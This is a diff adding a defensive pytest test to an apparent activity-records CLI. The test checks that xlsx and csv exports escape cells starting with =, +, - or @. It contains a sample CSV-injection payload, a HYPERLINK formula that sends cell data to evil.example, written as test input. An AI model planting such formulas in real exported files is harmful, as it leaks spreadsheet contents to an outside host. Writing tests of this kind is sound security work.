@@ -340,3 +340,41 @@ def test_each_campaign_object_holds_its_figures(db_url):
     for campaign in year["campaigns"]:
         assert {"audience", "sent", "filtered", "errors", "engaged"} <= set(campaign)
     assert "/srv/legalbot" not in json.dumps(year)  # the recipients file's path stays on the server
+
+
+def test_a_text_that_looks_like_a_formula_stays_text(tmp_path):
+    """A place or scene typed as `=HYPERLINK(…)` (or starting +, -, @) must not become a live
+    formula in Excel: both formats neutralise it with a leading apostrophe."""
+    url = f"sqlite:///{tmp_path}/formula.db"
+    engine = records.make_engine(url)
+    schema.upgrade(engine)
+    engine.dispose()
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
+    for place, scene in ((evil, "-cmd"), ("-2+3", "market-1")):
+        args = ["--date", "2025-03-02", "--kind", "集市宣传", "--place", place, "--scene", scene]
+        added = run(["activity", "add", *args], url)
+        assert added.returncode == 0, added.stderr
+    period = ["--from", "2025-01-01", "--to", "2025-12-31"]
+    xlsx, csv_file = tmp_path / "f.xlsx", tmp_path / "f.csv"
+    assert (
+        run(["stats", "export", "--format", "xlsx", "--out", str(xlsx), *period], url).returncode
+        == 0
+    )
+    assert (
+        run(["stats", "export", "--format", "csv", "--out", str(csv_file), *period], url).returncode
+        == 0
+    )
+    book = openpyxl.load_workbook(xlsx)
+    texts = [
+        cell
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str) and ("HYPERLINK" in cell.value or "cmd" in cell.value)
+    ]
+    assert texts and all(cell.data_type == "s" for cell in texts)
+    assert {cell.value for cell in texts} >= {"'" + evil, "'-cmd"}
+    rows = list(csv.reader(io.StringIO(csv_file.read_text("utf-8-sig"))))
+    values = {value for row in rows for value in row}
+    assert "'" + evil in values and "'-2+3" in values and "'-cmd" in values
+    assert evil not in values
